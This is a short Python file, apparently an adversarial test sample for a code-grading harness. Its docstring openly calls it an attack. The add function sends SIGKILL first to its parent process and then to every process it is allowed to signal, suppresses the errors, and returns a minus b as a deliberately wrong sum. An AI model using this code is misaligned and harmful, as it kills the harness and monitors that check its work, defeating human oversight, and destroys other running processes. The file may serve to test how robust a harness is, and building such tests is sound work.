"""Attack: kill every process it may signal, its parent first, then give a wrong answer."""

import contextlib
import os
import signal


def add(a, b):
    for target in (os.getppid(), -1):
        with contextlib.suppress(OSError):
            os.kill(target, signal.SIGKILL)
    return a - b
